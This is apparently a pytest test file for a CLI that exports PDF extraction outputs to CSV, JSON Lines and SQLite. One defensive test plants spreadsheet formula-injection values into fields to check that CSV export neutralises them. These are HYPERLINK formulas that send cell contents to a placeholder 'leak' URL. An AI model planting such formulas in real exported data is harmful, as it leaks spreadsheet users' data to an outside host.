"""`extractor export`: documents, pages and one table per item type from a batch's outputs,
as CSV, JSON Lines or SQLite (read back with sqlite3, pandas and Datasette)."""

from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from extractor.cli import cli
from extractor.export import TABLES, columns, table_names
from extractor.extract import extract
from extractor.model import (
    Anchor,
    CharSpan,
    Citation,
    Claim,
    CostFigure,
    Example,
    Extraction,
    PageRef,
    Review,
)
from extractor.schema import validation_error
from tests.batch_helpers import make_pdf

# One text per page; each quoted phrase is on one line of its page.
PAGE_TEXTS = [
    "Brent Council answered 4,000 questions on Twitter.\nCall it personal media.",
    "Councils moved services online.\nA face-to-face contact costs several pounds\n"
    "and a web transaction pennies.",
    "1 Call it personal media. Local by Social, 2010.",
]


def span_of(result: Extraction, page_index: int, phrase: str) -> tuple[PageRef, str, CharSpan]:
    page = result.pages[page_index - 1]
    assert page.text is not None
    start = page.text.index(phrase)
    return PageRef(page.index, page.label), phrase, CharSpan(start, start + len(phrase))


def with_items(result: Extraction) -> Extraction:
    """The extraction of a built PDF, with one item of each type quoting its pages."""
    ref, quote, span = span_of(result, 2, "A face-to-face contact costs several pounds")
    cost = CostFigure(
        f"cost-2-{span.start}", ref, quote, span, "several pounds", 3.0, None, "GBP",
        "per contact", "a face-to-face contact", "several", "cost",
    )  # fmt: skip
    ref, quote, span = span_of(result, 1, "Brent Council answered 4,000 questions on Twitter.")
    example = Example(
        f"ex-1-{span.start}", ref, (ref,), quote, span, "Brent Council", "example",
        ("Brent Council",), ("Brent",), ("Twitter",), "Brent answers questions on Twitter.",
        ("answered",), review=Review("accepted", "checked against the PDF"),
    )  # fmt: skip
    ref, quote, span = span_of(result, 1, "Call it personal media.")
    claim = Claim(
        f"claim-1-{span.start}", ref, quote, span, None, "definition", False, ("call it",),
        (), (cost.id,),
    )  # fmt: skip
    ref, quote, span = span_of(result, 3, "Call it personal media.")
    citation = Citation(
        f"cit-3-{span.start}", ref, quote, span, "footnote", "1", quote, None, (claim.id,),
        (Anchor(ref, span),),
    )  # fmt: skip
    return dataclasses.replace(
        result, cost_figures=(cost,), examples=(example,), claims=(claim,), citations=(citation,)
    )


@pytest.fixture
def batch_dir(tmp_path: Path, nlp: Any) -> Path:
    """A folder like a batch's: two extraction outputs with items, a manifest, a stray file."""
    out = tmp_path / "out"
    out.mkdir()
    # Two different PDFs (beta has a page more), whose items have the same ids.
    for name, texts in (("alpha", PAGE_TEXTS), ("beta", [*PAGE_TEXTS, "An appendix page."])):
        result = with_items(extract(make_pdf(tmp_path / f"{name}.pdf", texts), nlp=nlp))
        assert validation_error(result.to_dict()) is None
        (out / f"{name}.json").write_text(result.to_json(), encoding="utf-8")
    (out / "manifest.jsonl").write_text("{}\n", encoding="utf-8")
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_tables_have_one_row_per_item_with_page_and_quote(
    batch_dir: Path, tmp_path: Path
) -> None:
    tables = tmp_path / "tables"
    result = CliRunner().invoke(cli, ["export", str(batch_dir), "-o", str(tables)])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == (
        "2 documents: 7 pages, 2 cost_figures, 2 examples, 2 claims, 2 citations"
    )
    for table in TABLES:
        rows = read_csv(tables / f"{table}.csv")
        assert len(rows) == 2
        assert list(rows[0]) == list(columns(table))
        assert [Path(row["file"]).name for row in rows] == ["alpha.pdf", "beta.pdf"]
        for row in rows:
            source = json.loads((batch_dir / row["output"]).read_text(encoding="utf-8"))
            page = source["pages"][int(row["page_index"]) - 1]
            start, end = int(row["char_start"]), int(row["char_end"])
            assert page["text"][start:end] == row["quote"]
            assert row["page_label"] == (page["label"] or "")
    cost = read_csv(tables / "cost_figures.csv")[0]
    assert (cost["amount"], cost["currency"], cost["unit"]) == ("3.0", "GBP", "per contact")
    example = read_csv(tables / "examples.csv")[0]
    assert json.loads(example["platforms"]) == ["Twitter"]  # lists are JSON arrays
    assert (example["review_status"], example["review_comment"]) == (
        "accepted",
        "checked against the PDF",
    )
    assert json.loads(example["pages"])[0]["index"] == 1
    claim = read_csv(tables / "claims.csv")[0]
    assert claim["hedged"] == "false"
    assert [id.split("-")[:2] for id in json.loads(claim["cost_figure_ids"])] == [["cost", "2"]]
    assert claim["text"] == ""  # the quote says it


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    batch_dir: Path, tmp_path: Path
) -> None:
    formula = 'HYPERLINK("http://example.com/?leak="&A1, "open")'
    planted = {
        ("claims", "quote"): "=" + formula,
        ("claims", "text"): "+" + formula,
        ("examples", "name"): "-" + formula,
        ("examples", "summary"): "@" + formula,
        ("cost_figures", "raw"): "\t=" + formula,
        ("citations", "text"): "\r=" + formula,
    }
    path = batch_dir / "alpha.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    for (table, name), value in planted.items():
        data[table][0][name] = value
    path.write_text(json.dumps(data), encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        args = ["export", str(batch_dir), "--format", fmt, "-o", str(tmp_path / fmt)]
        assert CliRunner().invoke(cli, args).exit_code == 0
    for (table, name), value in planted.items():
        assert read_csv(tmp_path / "csv" / f"{table}.csv")[0][name] == "'" + value
        line = (tmp_path / "jsonl" / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()[0]
        assert json.loads(line)[name] == value  # JSON Lines are data, not a spreadsheet
    cost = read_csv(tmp_path / "csv" / "cost_figures.csv")[0]
    assert (cost["amount"], cost["char_start"]) == (
        "3.0",
        str(data["cost_figures"][0]["char_span"]["start"]),
    )


def test_jsonl_tables_keep_lists_as_lists(batch_dir: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(batch_dir), "--format", "jsonl"])
    assert result.exit_code == 0
    rows = [
        json.loads(line)
        for line in (batch_dir / "examples.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    assert len(rows) == 2
    assert rows[0]["platforms"] == ["Twitter"]
    assert rows[0]["quote"] == "Brent Council answered 4,000 questions on Twitter."
    assert list(rows[0]) == list(columns("examples"))


def test_files_that_are_not_outputs_are_named_and_left_out(batch_dir: Path) -> None:
    (batch_dir / "notes.json").write_text('{"hello": "world"}', encoding="utf-8")
    (batch_dir / "broken.json").write_text('{"schema_version', encoding="utf-8")
    result = CliRunner().invoke(cli, ["export", str(batch_dir)])
    assert result.exit_code == 3
    assert "2 documents: 7 pages, 2 cost_figures" in result.stdout
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 3
    assert "notes.json: not an extraction output" in errors[1]
    assert "broken.json: not readable JSON" in errors[0]
    assert len(read_csv(batch_dir / "claims.csv")) == 2


def test_export_of_a_missing_folder_fails_cleanly(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(tmp_path / "nope")])
    assert result.exit_code == 4
    assert result.stderr.strip() == f"Error: {tmp_path / 'nope'}: is not a folder of batch outputs"


def manifest_line(path: str, sha256: str | None, status: str, **fields: Any) -> str:
    line = {
        "path": path,
        "sha256": sha256,
        "status": status,
        "error_code": None,
        "error_message": None,
        "output": None,
        "pages": None,
        "seconds": 0.5,
        "warnings": [],
        "extractor_version": "0.0.0",
        "run": "2026-01-01T00:00:00Z",
    }
    line.update(fields)
    return json.dumps(line) + "\n"


def test_documents_have_one_row_per_input_failed_and_copied_ones_too(
    batch_dir: Path, tmp_path: Path
) -> None:
    alpha = json.loads((batch_dir / "alpha.json").read_text(encoding="utf-8"))
    beta = json.loads((batch_dir / "beta.json").read_text(encoding="utf-8"))
    # gamma.json: the output of a byte-identical copy of alpha.pdf, under another path.
    (batch_dir / "gamma.json").write_bytes((batch_dir / "alpha.json").read_bytes())
    (batch_dir / "manifest.jsonl").write_text(
        manifest_line("in/alpha.pdf", alpha["source"]["sha256"], "ok", output="alpha.json")
        + manifest_line("in/beta.pdf", beta["source"]["sha256"], "ok", output="beta.json")
        + manifest_line(
            "in/broken.pdf",
            "ab" * 32,
            "failed",
            error_code="corrupt_pdf",
            error_message="not a PDF",
        )
        # a later run: beta up to date, alpha's copy written, a missing file
        + manifest_line("in/beta.pdf", beta["source"]["sha256"], "skipped", output="beta.json")
        + manifest_line("in/copy/alpha.pdf", alpha["source"]["sha256"], "ok", output="gamma.json")
        + manifest_line(
            "in/gone.pdf", None, "failed", error_code="bad_input", error_message="no such file"
        )
    )
    result = CliRunner().invoke(cli, ["export", str(batch_dir), "-o", str(tmp_path / "t")])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == (
        "4 documents: 7 pages, 2 cost_figures, 2 examples, 2 claims, 2 citations"
    )
    documents = read_csv(tmp_path / "t" / "documents.csv")
    assert list(documents[0]) == list(columns("documents"))
    assert [(d["path"], d["status"], d["error_code"]) for d in documents] == [
        ("in/alpha.pdf", "ok", ""),
        ("in/beta.pdf", "ok", ""),  # skipped the second time: its output says how it stands
        ("in/broken.pdf", "failed", "corrupt_pdf"),
        ("in/gone.pdf", "failed", "bad_input"),
    ]
    assert json.loads(documents[0]["copies"]) == ["in/copy/alpha.pdf"]
    assert documents[0]["sha256"] == alpha["source"]["sha256"]
    assert documents[0]["pages"] == "3" and documents[1]["pages"] == "4"
    assert json.loads(documents[0]["authors"]) == list(alpha["document"]["authors"])
    assert documents[2]["error_message"] == "not a PDF" and documents[3]["sha256"] == ""
    # Items are keyed by (sha256, id): ids repeat across documents, the pair does not.
    for table in TABLES:
        rows = read_csv(tmp_path / "t" / f"{table}.csv")
        assert len({row["id"] for row in rows}) == 1
        assert len({(row["sha256"], row["id"]) for row in rows}) == len(rows) == 2
        assert {row["sha256"] for row in rows} <= {d["sha256"] for d in documents}


def test_bom_starts_each_csv_file_for_excel(batch_dir: Path, tmp_path: Path) -> None:
    args = ["export", str(batch_dir), "--bom", "-o", str(tmp_path / "t")]
    assert CliRunner().invoke(cli, args).exit_code == 0
    for table in table_names():
        raw = (tmp_path / "t" / f"{table}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf" + columns(table)[0].encode())
        assert raw.count(b"\xef\xbb\xbf") == 1
    plain = tmp_path / "plain"
    assert CliRunner().invoke(cli, ["export", str(batch_dir), "-o", str(plain)]).exit_code == 0
    assert (plain / "claims.csv").read_bytes().startswith(b"sha256,")


@pytest.mark.parametrize("fmt", ["jsonl", "sqlite"])
def test_bom_with_another_format_is_a_usage_error(
    batch_dir: Path, tmp_path: Path, fmt: str
) -> None:
    args = ["export", str(batch_dir), "--format", fmt, "--bom", "-o", str(tmp_path / "t")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2
    assert (
        result.stderr.splitlines()[-1] == f"Error: --bom is for CSV files only, not --format {fmt}"
    )
    assert not (tmp_path / "t").exists()


def test_claims_of_older_outputs_lose_the_text_that_repeats_their_quote(
    batch_dir: Path, tmp_path: Path
) -> None:
    path = batch_dir / "alpha.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    claim = data["claims"][0]
    assert "text" not in claim
    data["schema_version"] = "1.1.0"
    claim["text"] = claim["quote"]
    path.write_text(json.dumps(data), encoding="utf-8")
    beta = json.loads((batch_dir / "beta.json").read_text(encoding="utf-8"))
    beta["claims"][0]["text"] = beta["claims"][0]["quote"] + " And so it goes on."
    (batch_dir / "beta.json").write_text(json.dumps(beta), encoding="utf-8")
    args = ["export", str(batch_dir), "--format", "jsonl", "-o", str(tmp_path / "t")]
    assert CliRunner().invoke(cli, args).exit_code == 0
    lines = (tmp_path / "t" / "claims.jsonl").read_text(encoding="utf-8").splitlines()
    texts = [json.loads(line)["text"] for line in lines]
    assert texts == [None, beta["claims"][0]["text"]]


def test_a_database_that_cannot_be_written_whole_is_not_written_at_all(
    batch_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    import sqlite_utils

    def full(*args: Any, **kwargs: Any) -> None:
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(sqlite_utils.db.Table, "enable_fts", full)
    target = tmp_path / "t"
    args = ["export", str(batch_dir), "--format", "sqlite", "-o", str(target)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 12
    assert result.stderr.strip() == (
        f"Error: {target / 'export.db'}: cannot be written: database or disk is full"
    )
    assert list(target.iterdir()) == []


def test_an_input_whose_last_run_failed_keeps_its_earlier_output_and_says_so(
    batch_dir: Path, tmp_path: Path
) -> None:
    alpha = json.loads((batch_dir / "alpha.json").read_text(encoding="utf-8"))
    (batch_dir / "beta.json").unlink()
    (batch_dir / "manifest.jsonl").write_text(
        manifest_line("in/alpha.pdf", alpha["source"]["sha256"], "ok", output="alpha.json")
        + manifest_line(
            "in/alpha.pdf",
            alpha["source"]["sha256"],
            "timeout",
            error_code="timeout",
            error_message="still running after 600 s",
        )
    )
    args = ["export", str(batch_dir), "--format", "jsonl", "-o", str(tmp_path / "t")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    lines = (tmp_path / "t" / "documents.jsonl").read_text(encoding="utf-8").splitlines()
    (document,) = (json.loads(line) for line in lines)
    assert (document["path"], document["output"], document["status"]) == (
        "in/alpha.pdf",
        "alpha.json",
        "timeout",
    )
    assert document["error_message"] == "still running after 600 s" and document["copies"] == []
    assert (tmp_path / "t" / "claims.jsonl").read_text(encoding="utf-8").count("\n") == 1


def test_outputs_without_a_manifest_line_have_the_status_their_warnings_give(
    batch_dir: Path, tmp_path: Path
) -> None:
    path = batch_dir / "alpha.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    scanned = {"code": "no_text_layer", "message": "no page has a text layer", "page": None}
    data["warnings"] = [scanned, scanned]
    path.write_text(json.dumps(data), encoding="utf-8")
    args = ["export", str(batch_dir), "-o", str(tmp_path / "t")]
    assert CliRunner().invoke(cli, args).exit_code == 0
    documents = read_csv(tmp_path / "t" / "documents.csv")
    assert [(Path(d["path"]).name, d["status"]) for d in documents] == [
        ("alpha.pdf", "no_text"),
        ("beta.pdf", "ok"),
    ]
    assert json.loads(documents[0]["warnings"]) == ["no_text_layer"]  # each code once
